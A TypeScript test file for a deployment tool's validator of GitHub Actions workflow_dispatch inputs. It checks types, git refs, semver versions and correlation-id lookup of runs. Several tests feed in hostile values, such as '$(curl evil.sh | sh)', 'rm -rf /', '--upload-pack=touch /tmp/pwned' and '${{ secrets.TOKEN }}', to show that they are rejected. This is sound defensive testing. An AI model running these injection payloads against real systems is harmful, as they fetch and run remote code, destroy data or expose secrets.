import assert from 'node:assert/strict';
import { parse } from 'yaml';
import { ConfigError } from '../../../src/core/errors';
import { planDeploy } from '../../../src/core/deploy/plan';
import { environmentSchema } from '../../../src/core/deploy/schema';
import {
  correlationInputOf,
  findCorrelatedRun,
  inputRole,
  inputValueProblem,
  inputsToAsk,
  parseWorkflowDispatch,
  prepareWorkflowDispatch,
  runIdentification,
  validateInputs,
  type WorkflowDispatch,
} from '../../../src/core/deploy/workflowInputs';

const WORKFLOW = `
name: Deploy
run-name: deploy \${{ inputs.version }} to \${{ inputs.environment }} [\${{ inputs.correlation_id }}]
on:
  push:
    branches: [main]
  workflow_dispatch:
    inputs:
      version:
        description: Version to deploy
        required: true
      ref:
        description: Git ref
        required: true
      environment:
        type: environment
        required: true
      strategy:
        type: choice
        options: [direct, canary, blue-green, rolling]
        default: direct
      step:
        type: number
        default: 1
      weight:
        type: number
        default: 100
      dry_run:
        type: boolean
        default: false
      notes:
        type: string
      correlation_id:
        type: string
      replicas:
        type: choice
        options:
          - 1.0
          - 2
          - yes
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - run: ./deploy.sh "\${{ inputs.version }}"
`;

function dispatchOf(yaml: string): WorkflowDispatch | null {
  return parseWorkflowDispatch(parse(yaml) as unknown, '.github/workflows/deploy.yml');
}

const declared = dispatchOf(WORKFLOW)!;
const good = { version: '1.4.0', ref: 'v1.4.0', environment: 'production', correlation_id: 'rm-abc123-m0' };

describe('deploy/workflowInputs', () => {
  describe('parseWorkflowDispatch', () => {
    it('reads every declared input with its type, required flag, default and options (YAML numbers as text)', () => {
      assert.deepEqual(
        declared.inputs.map((i) => [i.name, i.type, i.required]),
        [
          ['version', 'string', true],
          ['ref', 'string', true],
          ['environment', 'environment', true],
          ['strategy', 'choice', false],
          ['step', 'number', false],
          ['weight', 'number', false],
          ['dry_run', 'boolean', false],
          ['notes', 'string', false],
          ['correlation_id', 'string', false],
          ['replicas', 'choice', false],
        ],
      );
      assert.deepEqual(declared.inputs.find((i) => i.name === 'strategy')?.options, ['direct', 'canary', 'blue-green', 'rolling']);
      assert.deepEqual(declared.inputs.find((i) => i.name === 'replicas')?.options, ['1', '2', 'yes']);
      assert.equal(declared.inputs.find((i) => i.name === 'dry_run')?.default, false);
    });

    it('accepts every form of the trigger: a string, a list, a key without inputs, and YAML 1.1\'s on: true', () => {
      assert.deepEqual(dispatchOf('on: workflow_dispatch\njobs: {}'), { inputs: [] });
      assert.deepEqual(dispatchOf('on: [push, workflow_dispatch]\njobs: {}'), { inputs: [] });
      assert.deepEqual(dispatchOf('on:\n  workflow_dispatch:\njobs: {}'), { inputs: [] });
      assert.deepEqual(parseWorkflowDispatch({ true: { workflow_dispatch: { inputs: { a: { required: true } } } } }, 'x.yml'), { inputs: [{ name: 'a', type: 'string', required: true }] });
    });

    it('says null when the workflow cannot be dispatched (no trigger), which validation blocks', () => {
      for (const y of ['on: push\njobs: {}', 'on: [push, pull_request]', 'on:\n  push:\n', 'name: x', '']) assert.equal(dispatchOf(y), null, y);
      const v = validateInputs(null, { version: '1.0.0' });
      assert.equal(v.ok, false);
      assert.deepEqual(v.problems.map((p) => p.code), ['no-trigger']);
    });

    it('names malformed declarations by path', () => {
      const bad = `on:\n  workflow_dispatch:\n    inputs:\n      level:\n        type: choice\n      flag:\n        type: boolean\n        default: maybe\n      kind:\n        type: choice\n        options: [a, b]\n        default: c\n      "9bad":\n        type: string\n      odd:\n        type: secret\n`;
      try {
        dispatchOf(bad);
        assert.fail('expected a ConfigError');
      } catch (e) {
        assert.ok(e instanceof ConfigError);
        const text = e.problems.join('\n');
        assert.match(text, /^on\.workflow_dispatch\.inputs\.level\.options: a choice input must list its options$/m);
        assert.match(text, /^on\.workflow_dispatch\.inputs\.flag\.default: a boolean input's default must be true or false$/m);
        assert.match(text, /^on\.workflow_dispatch\.inputs\.kind\.default: must be one of the options$/m);
        assert.match(text, /^on\.workflow_dispatch\.inputs\.9bad: input names start with a letter/m);
        assert.match(text, /^on\.workflow_dispatch\.inputs\.odd\.type: /m);
      }
    });
  });

  describe('validateInputs', () => {
    it('passes good values and applies the declared defaults, all sent as strings', () => {
      const v = validateInputs(declared, { ...good, dry_run: true, step: 2, weight: '50' });
      assert.deepEqual(v.problems, []);
      assert.equal(v.ok, true);
      assert.deepEqual(v.values, { version: '1.4.0', ref: 'v1.4.0', environment: 'production', strategy: 'direct', step: '2', weight: '50', dry_run: 'true', correlation_id: 'rm-abc123-m0' });
      assert.deepEqual(v.defaulted, ['strategy']);
    });

    it('reports unknown inputs (with a near miss) and missing required ones', () => {
      const v = validateInputs(declared, { Version: '1.4.0', ref: 'v1.4.0', target: 'x' });
      assert.equal(v.ok, false);
      const byCode = v.problems.map((p) => `${p.code}:${p.input}`);
      assert.deepEqual(byCode.sort(), ['missing:environment', 'missing:version', 'unknown:Version', 'unknown:target'].sort());
      assert.match(v.problems.find((p) => p.input === 'Version')!.message, /did you mean "version"\?/);
      assert.match(validateInputs({ inputs: [] }, { a: 'b' }).problems[0]!.message, /it declares no inputs/);
    });

    it('treats an empty value of a required input without a default as missing', () => {
      assert.deepEqual(validateInputs(declared, { ...good, version: '' }).problems.map((p) => p.code), ['missing']);
    });

    it('checks types: booleans, numbers, choices (exact membership), environments', () => {
      const codes = (given: Record<string, string | number | boolean>) => validateInputs(declared, { ...good, ...given }).problems.map((p) => `${p.code}:${p.input}`);
      assert.deepEqual(codes({ dry_run: 'yes' }), ['type:dry_run']);
      assert.deepEqual(codes({ dry_run: 'TRUE' }), ['type:dry_run']);
      assert.deepEqual(codes({ step: '1e3' }), ['type:step']);
      assert.deepEqual(codes({ step: '2; rm -rf /' }), ['type:step']);
      assert.deepEqual(codes({ step: Number.NaN }), ['type:step']);
      assert.deepEqual(codes({ strategy: 'Canary' }), ['choice:strategy']);
      assert.deepEqual(codes({ strategy: 'canary && curl evil' }), ['choice:strategy']);
      assert.deepEqual(codes({ replicas: '1.0' }), ['choice:replicas'], 'YAML read 1.0 as the number 1');
      assert.deepEqual(codes({ replicas: '1' }), []);
      assert.deepEqual(codes({ environment: 'prod$(id)' }), ['type:environment']);
      assert.deepEqual(codes({ version: 1 }), ['type:version']);
      const known = validateInputs(declared, { ...good, environment: 'qa' }, { environments: ['staging', 'Production'] });
      assert.deepEqual(known.problems.map((p) => p.code), ['choice']);
      assert.equal(validateInputs(declared, good, { environments: ['staging', 'Production'] }).ok, true);
    });

    it('refuses refs git would refuse or read as options', () => {
      for (const ref of ['--upload-pack=touch /tmp/pwned', '-x', 'a..b', 'v1.0.0~1', 'HEAD^', 'a b', 'x.lock', 'refs/heads/@{u}', '']) {
        const v = validateInputs(declared, { ...good, ref });
        assert.equal(v.ok, false, ref);
      }
      // git allows these in ref names, but they are shell metacharacters.
      for (const ref of ['v1;id', 'v1$(id)', 'v1`id`', 'main|cat', "it's"]) {
        const v = validateInputs(declared, { ...good, ref });
        assert.deepEqual(v.problems.map((p) => p.code), ['unsafe'], ref);
      }
      assert.equal(validateInputs(declared, { ...good, ref: 'release/1.4.x' }).ok, true);
    });

    it('refuses versions that are not semver (no spaces, no =, no ranges)', () => {
      for (const version of ['1.4', ' 1.4.0', '=1.4.0', '^1.4.0', '1.4.0 || 2', 'latest', '1.4.0;id']) {
        assert.deepEqual(validateInputs(declared, { ...good, version }).problems.map((p) => p.code), ['version'], version);
      }
      for (const version of ['1.4.0', 'v1.4.0', '1.4.0-rc.1', '1.4.0+build.7']) assert.equal(validateInputs(declared, { ...good, version }).ok, true, version);
    });

    it('refuses shell metacharacters, newlines, control and bidi characters in text, and bounds its length', () => {
      const hostile = ['$(curl evil.sh | sh)', '`id`', 'a; rm -rf /', 'a && b', 'a | b', '"; exit 1; "', "'", 'a > /etc/x', '${{ secrets.TOKEN }}', 'x\ny', 'x\rY', 'tab\there', 'bell\u0007', 'rtl\u202eexe', '--force', 'a\u2028b'];
      for (const notes of hostile) {
        const v = validateInputs(declared, { ...good, notes });
        assert.equal(v.ok, false, JSON.stringify(notes));
        assert.ok(v.problems.every((p) => p.code === 'unsafe' && p.input === 'notes'), JSON.stringify(v.problems));
      }
      assert.equal(validateInputs(declared, { ...good, notes: 'Déploiement de la version 1.4.0, ticket OPS-12 (urgent)' }).ok, false, 'parentheses are shell syntax');
      assert.equal(validateInputs(declared, { ...good, notes: 'Déploiement de la version 1.4.0, ticket OPS-12: urgent' }).ok, true);
      assert.deepEqual(validateInputs(declared, { ...good, notes: 'x'.repeat(257) }).problems.map((p) => p.code), ['too-long']);
      assert.equal(validateInputs(declared, { ...good, notes: 'x'.repeat(300) }, { maxLength: 300 }).ok, true);
    });

    it('lets declared free-text inputs carry metacharacters, but never newlines, controls or unbounded length', () => {
      const free = { freeText: ['notes'] };
      assert.equal(validateInputs(declared, { ...good, notes: 'fix (urgent): "quotes" & $money' }, free).ok, true);
      assert.equal(validateInputs(declared, { ...good, notes: 'a\nb' }, free).ok, false);
      assert.equal(validateInputs(declared, { ...good, notes: 'a\u0000b' }, free).ok, false);
      assert.equal(validateInputs(declared, { ...good, notes: 'x'.repeat(1000) }, free).ok, false);
      assert.equal(validateInputs(declared, { ...good, ref: 'v1;id' }, { freeText: ['notes'] }).ok, false, 'only the named input is free');
    });

    it('refuses more inputs than GitHub accepts in one dispatch', () => {
      const many: WorkflowDispatch = { inputs: Array.from({ length: 30 }, (_, i) => ({ name: `i${i}`, type: 'string' as const, required: false })) };
      const given = Object.fromEntries(many.inputs.map((i) => [i.name, 'x']));
      assert.deepEqual(validateInputs(many, given).problems.map((p) => p.code), ['too-many']);
    });

    it('classifies inputs as refs or versions by their names', () => {
      assert.deepEqual(['ref', 'git_ref', 'gitRef', 'branch', 'tag', 'tag_name', 'deploy-sha', 'commit'].map(inputRole), Array(8).fill('ref'));
      assert.deepEqual(['version', 'app_version', 'appVersion', 'image-version'].map(inputRole), Array(4).fill('version'));
      assert.deepEqual(['notes', 'references', 'tagline', 'versions_list', 'name'].map(inputRole), Array(5).fill('text'));
    });
  });

  describe('identifying the run', () => {
    it('prefers the run details the dispatch returns, then a correlation input, else says it cannot identify the run', () => {
      assert.deepEqual(runIdentification(true, declared), { kind: 'returned' });
      assert.deepEqual(runIdentification(false, declared), { kind: 'correlation', input: 'correlation_id' });
      const none = runIdentification(false, { inputs: declared.inputs.filter((i) => i.name !== 'correlation_id') });
      assert.equal(none.kind, 'none');
      assert.match(none.kind === 'none' ? none.reason : '', /^could not identify the run/);
    });

    it('takes a configured correlation input only when the workflow declares it as text', () => {
      assert.deepEqual(correlationInputOf(declared, 'notes'), { input: 'notes' });
      assert.deepEqual(correlationInputOf(declared, 'missing'), { input: null, problem: 'correlationInput "missing" is not declared by the workflow' });
      assert.deepEqual(correlationInputOf(declared, 'step'), { input: null, problem: 'correlationInput "step" is a number input; it must be a string input' });
      assert.deepEqual(correlationInputOf({ inputs: [{ name: 'distinct_id', type: 'string', required: false }] }), { input: 'distinct_id' });
    });

    it('finds our run by its correlation id, never the latest run', () => {
      const since = Date.parse('2026-05-01T10:00:00Z');
      const run = (id: number, title: string, minutes: number, event = 'workflow_dispatch') => ({ id, title, event, createdAt: since + minutes * 60_000 });
      const runs = [run(9, 'deploy 1.5.0 [rm-zzz999-m0]', 5), run(8, 'deploy 1.4.0 [rm-abc123-m0]', 1), run(7, 'deploy 1.4.0 [rm-abc123-m01]', 1), run(6, 'deploy [rm-abc123-m0]', -30)];
      assert.deepEqual(findCorrelatedRun(runs, 'rm-abc123-m0', since), { kind: 'found', run: runs[1] });
      assert.deepEqual(findCorrelatedRun(runs, 'rm-nothere-m0', since), { kind: 'absent' });
      assert.deepEqual(findCorrelatedRun([run(1, 'x rm-a-1', 0, 'push')], 'rm-a-1', since), { kind: 'absent' }, 'only dispatch runs');
      assert.deepEqual(findCorrelatedRun([run(1, 'a rm-a-1', 0), run(2, 'b rm-a-1', 1)], 'rm-a-1', since), { kind: 'ambiguous', ids: [1, 2] });
    });
  });

  describe('prepareWorkflowDispatch', () => {
    const envWith = (provider: Record<string, unknown>, strategy: Record<string, unknown> = { kind: 'canary' }) =>
      environmentSchema().parse({ name: 'production', strategy, provider: { kind: 'workflow', workflow: 'deploy.yml', inputs: { version: '{version}', ref: '{ref}', environment: '{environment}' }, ...provider } });
    const release = { version: '1.4.0', sha: 'a'.repeat(40), ref: 'v1.4.0' };

    it('sends the step\'s inputs, the correlation id and the defaults, and says how the run is identified', () => {
      const e = envWith({});
      const step = planDeploy(e, release).steps[0]!;
      const p = prepareWorkflowDispatch(e.provider as Extract<typeof e.provider, { kind: 'workflow' }>, declared, step, 'op-abc123-m0', { serverReturnsRun: false });
      assert.ok(p.ok);
      if (p.ok) {
        assert.deepEqual(p.inputs, { version: '1.4.0', ref: 'v1.4.0', environment: 'production', strategy: 'canary', step: '1', weight: '10', dry_run: 'false', correlation_id: 'op-abc123-m0' });
        assert.deepEqual(p.defaulted, ['dry_run']);
        assert.deepEqual(p.identification, { kind: 'correlation', input: 'correlation_id' });
      }
      const returned = prepareWorkflowDispatch(e.provider as Extract<typeof e.provider, { kind: 'workflow' }>, declared, step, 'op-abc123-m0', { serverReturnsRun: true });
      assert.ok(returned.ok && returned.identification.kind === 'returned' && returned.inputs.correlation_id === 'op-abc123-m0', 'the id is sent anyway: it finds the run after a crash');
    });

    it('blocks locally: no trigger, undeclared strategy inputs, a configured correlation input the workflow lacks', () => {
      const e = envWith({});
      const wf = e.provider as Extract<typeof e.provider, { kind: 'workflow' }>;
      const step = planDeploy(e, release).steps[0]!;
      const none = prepareWorkflowDispatch(wf, null, step, 'op-abc123-m0', { serverReturnsRun: true });
      assert.ok(!none.ok && none.problems[0]!.code === 'no-trigger');
      const bare = dispatchOf('on:\n  workflow_dispatch:\n    inputs:\n      version:\n        required: true\n      ref: {}\n      environment: {}\n')!;
      const unknown = prepareWorkflowDispatch(wf, bare, step, 'op-abc123-m0', { serverReturnsRun: true });
      assert.deepEqual(!unknown.ok && unknown.problems.map((p) => p.input), ['strategy', 'step', 'weight']);
      const lacking = envWith({ correlationInput: 'run_token' });
      const missing = prepareWorkflowDispatch(lacking.provider as typeof wf, declared, planDeploy(lacking, release).steps[0]!, 'op-abc123-m0', { serverReturnsRun: true });
      assert.ok(!missing.ok && /not declared/.test(missing.problems[0]!.message));
      const direct = envWith({}, { kind: 'direct' });
      const unidentified = prepareWorkflowDispatch(direct.provider as typeof wf, bare, planDeploy(direct, release).steps[0]!, 'op-abc123-m0', { serverReturnsRun: false });
      assert.ok(unidentified.ok && unidentified.identification.kind === 'none', 'allowed, but the caller is told the run cannot be identified');
    });

    it('refuses hostile values that came through a template', () => {
      const e = envWith({ inputs: { version: '{version}', ref: '{ref}', environment: '{environment}', notes: 'deploy $(whoami)' } });
      const wf = e.provider as Extract<typeof e.provider, { kind: 'workflow' }>;
      const p = prepareWorkflowDispatch(wf, declared, planDeploy(e, release).steps[0]!, 'op-abc123-m0', { serverReturnsRun: true });
      assert.deepEqual(!p.ok && p.problems.map((x) => `${x.code}:${x.input}`), ['unsafe:notes']);
    });
  });

  describe('asking for the inputs nobody set', () => {
    const context = { correlationInput: 'correlation_id', version: '1.4.0', ref: 'v1.4.0', environment: 'production' };
    it('asks for every declared input the config and the plan do not set, in file order, with a suggestion by role', () => {
      const ask = inputsToAsk(declared, new Set(['strategy', 'step', 'weight', 'notes']), context);
      assert.deepEqual(
        ask.map((a) => [a.input.name, a.input.type, a.suggested]),
        [
          ['version', 'string', '1.4.0'],
          ['ref', 'string', 'v1.4.0'],
          ['environment', 'environment', 'production'],
          ['dry_run', 'boolean', 'false'],
          ['replicas', 'choice', undefined],
        ],
      );
    });

    it('checks a typed value with the rules of the dispatch: choices, booleans, numbers, refs, versions, shell metacharacters', () => {
      const input = (name: string) => declared.inputs.find((d) => d.name === name)!;
      assert.equal(inputValueProblem(input('version'), '1.4.0'), null);
      assert.match(inputValueProblem(input('version'), 'latest') ?? '', /is not a semver version/);
      assert.match(inputValueProblem(input('ref'), 'v1..4') ?? '', /is not a valid git ref/);
      assert.match(inputValueProblem(input('dry_run'), 'yes') ?? '', /must be true or false/);
      assert.equal(inputValueProblem(input('dry_run'), 'true'), null);
      assert.match(inputValueProblem(input('replicas'), '3') ?? '', /must be one of "1", "2", "yes"/);
      assert.match(inputValueProblem(input('notes'), 'ok; rm -rf /') ?? '', /shell metacharacter/);
      assert.equal(inputValueProblem(input('notes'), 'ok; rm -rf /', { freeText: ['notes'] }), null, 'unless declared free text');
      assert.match(inputValueProblem(input('environment'), 'qa', { environments: ['staging', 'production'] }) ?? '', /which the repository does not have/);
      assert.equal(inputValueProblem(input('version'), ''), 'a value is required');
      assert.equal(inputValueProblem(input('notes'), ''), null, 'an optional input may stay empty');
      assert.equal(inputValueProblem(input('step'), ''), null, 'an input with a default may stay empty');
    });
  });
});
